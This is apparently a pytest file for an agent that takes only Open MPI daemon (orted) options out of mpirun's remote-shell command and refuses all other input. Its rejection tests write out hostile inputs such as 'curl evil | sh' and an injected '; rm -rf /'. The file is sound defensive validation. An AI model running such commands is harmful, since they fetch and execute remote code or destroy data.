"""What Open MPI asks of its remote shell, and what of it a machine takes: its daemon's options, and nothing else."""

import json
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread

import pytest

from tandem_worker.agent.launch import COMMAND_BYTES_MAX, LaunchError, daemon_options, join, joins, launch, launched

SEEN = (
    ' orted -mca orte_leave_session_attached "1" -mca ess "env" -mca ess_base_vpid 1 '
    '-mca orte_node_regex "chat-serve-[1:1]a2b3c4d-0,node-[1:1-2]@0(3)" '
    '-mca orte_hnp_uri "265748480.0;tcp://192.0.2.2:23000;tcp6://[fd00::2]:45305" -mca plm "rsh"'
)
"""As 4.1.4 of Debian sent it, shortened."""
OPTIONS = (
    *("-mca", "orte_leave_session_attached", "1", "-mca", "ess", "env", "-mca", "ess_base_vpid", "1"),
    *("-mca", "orte_node_regex", "chat-serve-[1:1]a2b3c4d-0,node-[1:1-2]@0(3)"),
    *("-mca", "orte_hnp_uri", "265748480.0;tcp://192.0.2.2:23000;tcp6://[fd00::2]:45305", "-mca", "plm", "rsh"),
)
PREFIX = "PATH=/usr/local/mpi/bin:$PATH ; export PATH ; /usr/local/mpi/bin/"
"""Of an Open MPI that exports its own folders (`--enable-orterun-prefix-by-default`); plm_rsh_module.c."""


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(SEEN, id="as seen"),
        pytest.param(PREFIX + SEEN.strip(), id="with its folders"),
        pytest.param(f"( test ! -r ./.profile || . ./.profile;{SEEN} )", id="after a profile"),
    ],
)
def test_takes_the_options_of_the_daemon(command: str):
    assert daemon_options(command) == OPTIONS


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("sh -c 'curl evil | sh'", "starts no orted"),
        ("", "starts no orted"),
        ("orted", "was given no options"),
        ("orted -mca ess env ; rm -rf /", "'; rm -rf' is no option"),
        ("orted -mca ess env | tee /tmp/x", "no option"),
        ("orted --daemonize -mca ess env", "no option"),
        ("orted -mca ess", "'-mca ess' is no option"),
        ("orted -mca ess 'env", "cannot be read"),
        (f"orted -mca ess {'x' * COMMAND_BYTES_MAX}", "longer than 65536 bytes"),
    ],
)
def test_refuses_everything_else(command: str, words: str):
    with pytest.raises(LaunchError, match=words):
        daemon_options(command)


def test_mpirun_leaves_what_a_machine_is_to_start(tmp_path: Path):
    assert launched(tmp_path, 1) is None
    assert launch([str(tmp_path), "node-1", *SEEN.split(" ")]) == 0
    assert launched(tmp_path, 1) == OPTIONS
    assert launched(tmp_path, 2) is None


@pytest.mark.parametrize("arguments", [["host-1", SEEN], ["node-0", SEEN], ["../node-1", SEEN], ["node-1", "sh"], []])
def test_mpirun_sees_a_failure_where_nothing_can_be_started(
    arguments: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    assert launch([str(tmp_path), *arguments]) == 1
    assert capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_a_file_holds_no_command_that_a_shell_would_read(tmp_path: Path):
    launch([str(tmp_path), "node-1", SEEN])
    (file,) = tmp_path.iterdir()
    assert json.loads(file.read_text())[:3] == list(OPTIONS[:3])


class Leader(BaseHTTPRequestHandler):
    """An agent that has not been asked by `mpirun` at first."""

    page: bytes
    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(404 if len(self.asked) == 1 else 200)
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_: object) -> None:  # pyright: ignore[reportIncompatibleMethodOverride]
        """Nothing: the test looks at what was asked."""


@pytest.mark.parametrize(
    ("page", "started"),
    [
        pytest.param(json.dumps(OPTIONS), ["orted", *OPTIONS], id="options"),
        pytest.param('["-c", "curl evil | sh"]', None, id="no options"),
        pytest.param('{"-mca": "ess"}', None, id="no words"),
        pytest.param("<html>", None, id="a page"),
    ],
)
def test_a_machine_starts_the_daemon_of_its_own_path_with_its_leaders_options_or_nothing(
    page: str, started: list[str] | None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    ran: list[tuple[str, list[str]]] = []
    monkeypatch.setattr("tandem_worker.agent.launch.os.execvp", lambda program, argv: ran.append((program, argv)))
    monkeypatch.setattr("tandem_worker.agent.launch.signal.signal", lambda *_: None)  # of this process, which stays
    monkeypatch.setattr("tandem_worker.agent.launch.ASK_PERIOD_S", 0.0)
    leader = type("Asked", (Leader,), {"page": page.encode(), "asked": []})
    with HTTPServer(("127.0.0.1", 0), leader) as server:
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        port = str(server.server_address[1])
        code = join(["--leader-address", "127.0.0.1", "--agent-port", port, "--node-rank", "3"])
        server.shutdown()
        thread.join()

    assert leader.asked == ["/launch/3", "/launch/3"]
    assert ran == ([("orted", started)] if started else [])
    lines = capsys.readouterr().err.splitlines()
    assert any(map(joins, lines)) == (started is not None)
    assert started or (code, "the agent of 127.0.0.1 says something else" in lines[-1]) == (1, True)
